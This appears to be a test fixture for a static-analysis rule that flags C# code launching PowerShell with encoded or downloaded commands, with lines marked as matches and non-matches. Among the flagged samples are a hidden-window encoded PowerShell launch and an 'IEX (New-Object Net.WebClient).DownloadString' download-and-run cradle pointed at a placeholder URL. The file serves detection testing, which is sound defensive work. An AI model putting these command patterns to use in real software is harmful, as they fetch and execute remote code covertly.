class Start
{
    void Run(string packed)
    {
        // ruleid: csharp-powershell-encoded
        Process.Start("powershell.exe", "-nop -w hidden -enc SQBFAFgA");
        // ruleid: csharp-powershell-encoded
        Process.Start("powershell", "-EncodedCommand " + packed);
        // ruleid: csharp-powershell-encoded
        Process.Start("powershell", "IEX (New-Object Net.WebClient).DownloadString('http://a/b')");
        // ok: csharp-powershell-encoded
        Process.Start("powershell", "-File build.ps1");
        // ok: csharp-powershell-encoded
        Process.Start("git", "-e x");
    }
}
